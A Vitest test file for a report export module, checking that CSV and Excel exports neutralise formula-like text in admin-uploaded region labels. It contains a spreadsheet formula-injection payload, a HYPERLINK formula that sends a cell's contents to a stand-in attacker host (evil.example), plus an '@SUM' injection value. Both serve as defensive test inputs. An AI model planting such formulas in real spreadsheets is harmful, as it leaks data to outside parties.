import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import type { ReportTable } from "~/domain/report-tables";
import { reportTablesCsv, reportTablesXlsx } from "./report-export.server";

/** Region names come from a table an admin uploads: text that reaches a spreadsheet from outside the app. */
const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
const tables: ReportTable[] = [
  {
    id: "regions",
    title: "Vragen per regio",
    unit: "vragen",
    chart: false,
    rows: [
      { code: "JZ01", label: PAYLOAD, path: "signals.byRegion.JZ01", count: 12, countText: "12", share: 0.5, previous: 3, source: { list: "signals", filter: {} } },
      { code: "JZ02", label: "@SUM(1+1)", path: "signals.byRegion.JZ02", count: null, countText: "< 5", share: null, source: { list: "signals", filter: {} } },
    ],
  },
];

describe("report table exports", () => {
  it("neutralise formula-like text in the CSV and keep numbers as numbers", () => {
    const rows = parse(reportTablesCsv(tables)) as string[][];
    expect(rows[1]).toEqual(["Vragen per regio", "JZ01", `'${PAYLOAD}`, "12", "0.5", "3"]);
    expect(rows[2]?.slice(2, 4)).toEqual(["'@SUM(1+1)", "< 5"]);
  });

  it("neutralise formula-like text in Excel, where cells are values, never formulas", async () => {
    const workbook = new ExcelJS.Workbook();
    const bytes = new Uint8Array(await reportTablesXlsx(tables, 2021));
    await workbook.xlsx.load(bytes.buffer);
    const sheet = workbook.getWorksheet("regions");
    const cells = [3, 4].map((row) => sheet?.getRow(row).getCell(2));
    expect(cells.map((cell) => cell?.value)).toEqual([`'${PAYLOAD}`, "'@SUM(1+1)"]);
    expect(cells.every((cell) => cell?.type === ExcelJS.ValueType.String)).toBe(true);
    expect(sheet?.getRow(3).getCell(3).value).toBe(12);
  });
});
